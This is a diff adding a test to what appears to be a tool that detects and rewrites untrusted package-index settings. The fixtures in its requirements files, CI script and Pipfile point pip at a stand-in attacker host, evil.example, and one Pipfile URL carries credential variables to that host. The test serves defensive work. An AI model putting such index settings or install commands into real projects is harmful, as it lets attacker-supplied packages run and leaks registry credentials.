@@ -111,6 +111,32 @@ def test_after_the_fixes_a_second_run_is_clean(project: Path) -> None:
     assert f"# {evil}" in (project / "Dockerfile").read_text()
 
 
+def test_a_fix_takes_the_whole_of_an_option_and_of_an_address(project: Path) -> None:
+    files = {
+        "requirements.txt": (
+            "six\n--extra-index-url \\\n    https://evil.example/simple/\n-f https://evil.example/x  # why\n",
+            "six\n",
+        ),
+        "requirements-two.txt": (
+            f"-f https://evil.example/simple -i {MIRROR}\n",
+            f"-f {MIRROR} -i {MIRROR}\n",
+        ),
+        "ci.sh": (
+            "pip install -i https://evil.example/a --extra-index-url https://evil.example/a/b six\n",
+            f"pip install -i {MIRROR} --extra-index-url {MIRROR} six\n",
+        ),
+        "Pipfile": (
+            '[[source]]\nname = "a"\nurl = "https://${U}:${P}@evil.example/simple"\n',
+            f'[[source]]\nname = "a"\nurl = "{MIRROR}"\n',
+        ),
+    }
+    for name, (text, _) in files.items():
+        (project / name).write_text(text)
+    done = check(project, "--offline", "--fix")
+    assert {name: (project / name).read_text() for name in files} == {name: text for name, (_, text) in files.items()}
+    assert done.returncode == 0, done.stdout
+
+
 def test_nothing_is_written_where_nothing_can_be_mended(project: Path) -> None:
     before = sorted(project.iterdir())
     assert check(project, "--offline", "--fix").returncode == 0
